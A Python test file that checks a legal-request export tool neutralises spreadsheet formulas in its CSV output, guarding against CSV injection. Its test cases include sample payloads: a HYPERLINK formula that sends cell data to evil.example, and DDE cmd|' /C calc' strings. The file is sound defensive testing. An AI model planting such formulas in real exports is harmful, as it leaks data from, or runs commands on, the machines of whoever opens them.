"""Issue 11: spreadsheet formulas in a production's CSV files are neutralised (OWASP, CSV injection); the
JSON files keep every value exactly."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.doubles import FakeSigner
from trustdesk.lawful.package import PackageMeta, build_archive, neutralise_formula
from trustdesk.lawful.package_check import read_files
from trustdesk.platform.protocol import Export, ExportRecord, FieldValue, Period
from trustdesk.vocabulary import DataCategory

TRIGGERS = "=+-@\t\r"
START, END = datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 11, 1, tzinfo=UTC)
META = PackageMeta(
    tracking_number="TD-2026-000123",
    agency_id="agency-fr-0001",
    instrument="EU_EPOC",
    categories=("content", "subscriber"),
    period_start=START,
    period_end=END,
    produced_at=datetime(2026, 11, 2, 9, 0, tzinfo=UTC),
    policy_version="2026.02",
    targets=("phone:+33612345678",),
)
# Text that often begins like a formula, and anything else.
CELLS = st.one_of(st.text(), st.builds(lambda c, rest: c + rest, st.sampled_from(TRIGGERS), st.text()))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5",
    ],
)
def test_a_cell_a_spreadsheet_would_run_begins_with_a_quote(cell: str) -> None:
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "hello", "'=already text", " =1", "2026-11-02T09:00:00+00:00", "é=1"])
def test_any_other_cell_is_unchanged(cell: str) -> None:
    assert neutralise_formula(cell) == cell


@given(cell=CELLS)
def test_a_neutralised_cell_never_begins_a_formula_and_keeps_the_value(cell: str) -> None:
    shown = neutralise_formula(cell)
    assert not shown.startswith(tuple(TRIGGERS))
    if cell.startswith(tuple(TRIGGERS)):
        assert shown == "'" + cell
    else:
        assert shown == cell
    assert neutralise_formula(shown) == shown  # once is enough


FIELD_VALUES = st.one_of(st.none(), st.integers(-(2**53), 2**53), CELLS)


@given(
    account_id=st.from_regex(r"[=+\-@]?[0-9]{1,6}", fullmatch=True),
    kind=CELLS.filter(bool),
    field_name=CELLS.filter(lambda n: n not in {"account_id", "kind", "at"} and bool(n)),
    values=st.lists(FIELD_VALUES, min_size=1, max_size=5),
)
@settings(max_examples=80, deadline=None)
def test_every_cell_of_every_production_csv_is_neutralised_and_the_json_is_not(
    account_id: str, kind: str, field_name: str, values: list[FieldValue]
) -> None:
    records = tuple(
        ExportRecord(category=DataCategory.CONTENT, kind=kind, fields={field_name: value}, at=None)
        for value in values
    )
    export = Export(account_id, Period(START, END), frozenset({DataCategory.CONTENT}), records)
    files = read_files(build_archive(META, [export], None, FakeSigner()))

    rows = list(csv.reader(io.StringIO(files["data/content.csv"].decode("utf-8"), newline="")))
    assert rows[0] == ["account_id", "kind", "at", neutralise_formula(field_name)]
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(TRIGGERS))
    expected = sorted(
        [
            neutralise_formula(account_id),
            neutralise_formula(kind),
            "",
            neutralise_formula("" if v is None else str(v)),
        ]
        for v in values
    )
    assert sorted(rows[1:]) == expected
    in_json = json.loads(files["data/content.json"])
    assert sorted((r["account_id"], r["kind"], repr(r["fields"][field_name])) for r in in_json) == sorted(
        (account_id, kind, repr(v)) for v in values
    )
